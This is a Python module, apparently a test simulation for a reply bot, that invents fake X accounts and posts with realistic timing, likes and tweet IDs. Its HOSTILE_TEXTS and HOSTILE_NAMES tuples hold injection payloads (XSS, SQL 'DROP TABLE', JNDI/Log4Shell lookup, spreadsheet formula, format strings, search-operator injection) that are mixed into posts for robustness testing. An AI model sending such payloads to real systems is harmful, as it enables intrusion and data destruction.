"""Who writes in a world, and what they post: what a bot can see of it. All names are made up."""

import re
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta

import numpy as np

from replyloop_assets.simulation.world import World

X_EPOCH_MS = 1288834974657  # an X id is the milliseconds since then, and 22 bits besides


HOSTILE_TEXTS = (
    "<script>alert('followers')</script>",
    "'); DROP TABLE reply_opportunities; --",
    "\u202egnp.exe \u0000 \ud83d",
    '=HYPERLINK("http://example.invalid","click") from:everyone OR min_faves:0',
    "{{7*7}} ${jndi:ldap://example.invalid/a} %s %n \\x00",
    "a" * 20_000,
)
HOSTILE_NAMES = ("<b>bold</b>", "'; --", "x OR from:victim", "", "a" * 300, "naïve\u200bname")


@dataclass(frozen=True)
class Account:
    """An author as anyone sees them."""

    username: str
    followers: int
    topic: str


@dataclass(frozen=True)
class Post:
    """A post as a search finds it. `number` is its place in the audience's posts."""

    number: int
    tweet_id: str
    author: Account
    found_at: datetime
    age_minutes: int
    likes: int
    replies: int
    topic: str
    text: str


class Audience:
    """The accounts of a world, and every post of its days, in the order they can be found."""

    def __init__(self, world: World, first_day: date, days: int, seed: np.random.SeedSequence) -> None:
        of_accounts, of_posts = (np.random.default_rng(one) for one in seed.spawn(2))
        self.start = datetime.combine(first_day, time(), UTC)
        self.days = days
        self.accounts = invent_accounts(world, of_accounts)
        self.posts = invent_posts(world, self.accounts, self.start, days, of_posts)
        self._hours = np.array([(post.found_at - self.start) // timedelta(hours=1) for post in self.posts])

    def found_in(self, hour: int) -> list[Post]:
        """The posts that can be found from an hour on, counted from the first day's midnight."""
        first, last = np.searchsorted(self._hours, [hour, hour + 1])
        return self.posts[first:last]


def invent_accounts(world: World, rng: np.random.Generator) -> list[Account]:
    """Authors with heavy-tailed sizes."""
    law = world.accounts
    sizes = np.exp(rng.normal(np.log(law.followers_median), law.followers_sigma, law.count))
    topics = rng.integers(len(law.topics), size=law.count)
    return [
        Account(f"ex_{number:03d}", int(size), law.topics[topic])
        for number, (size, topic) in enumerate(zip(sizes, topics, strict=True))
    ]


def invent_posts(
    world: World, accounts: list[Account], start: datetime, days: int, rng: np.random.Generator
) -> list[Post]:
    """Every post of the days. Authors post unequally often, a fifth of what they write is off their topic."""
    law, rhythm = world.posts, world.rhythm
    growth = np.power(rhythm.growth, np.arange(days) / 365)
    per_day = rng.poisson(law.per_day * growth)
    total = int(per_day.sum())
    day = np.repeat(np.arange(days), per_day)
    weights = np.array(rhythm.posts_by_hour) / sum(rhythm.posts_by_hour)
    found = np.sort(24 * day + rng.choice(24, total, p=weights) + rng.random(total))
    busy = rng.exponential(size=len(accounts)) + 0.2
    author = rng.choice(len(accounts), total, p=busy / busy.sum())
    age = np.exp(rng.normal(np.log(law.age_minutes_median), law.age_sigma, total)).clip(1, 4000)
    likes = np.exp(rng.normal(np.log(law.likes_median), law.likes_sigma, total)).clip(50, 5e6)
    crowd = likes * rng.uniform(*law.replies_per_like, total)
    topics = world.accounts.topics
    off_topic = np.where(rng.random(total) < 0.2, rng.integers(len(topics), size=total), -1)
    hostile = rng.random(total) < world.trouble.hostile
    bits = rng.integers(1 << 22, size=total)
    posts: list[Post] = []
    for n in range(total):
        found_at = start + timedelta(seconds=int(3600 * found[n]))
        posted_at = found_at - timedelta(minutes=int(age[n]))
        one = accounts[author[n]]
        topic = one.topic if off_topic[n] < 0 else topics[off_topic[n]]
        text = f"What nobody tells you about {topic}"
        posts.append(
            Post(
                n, tweet_id(posted_at, int(bits[n])), one, found_at, int(age[n]), int(likes[n]),
                int(crowd[n]), topic, HOSTILE_TEXTS[n % len(HOSTILE_TEXTS)] if hostile[n] else text,
            )
        )  # fmt: skip
    return posts


def tweet_id(at: datetime, bits: int) -> str:
    """An id as X makes it."""
    return str(((int(at.timestamp() * 1000) - X_EPOCH_MS) << 22) | bits)


def matches(query: str, post: Post) -> bool:
    """Whether X's search would give this post for a query of the plan: from:, min_likes:, quoted words."""
    least = re.search(r"min_likes:(\d+)", query)
    if least and post.likes < int(least[1]):
        return False
    authors = re.findall(r"from:(\w+)", query)
    if authors and post.author.username.lower() not in {name.lower() for name in authors}:
        return False
    words = re.findall(r'"([^"]+)"', query)
    return not words or post.topic.lower() in {word.lower() for word in words}
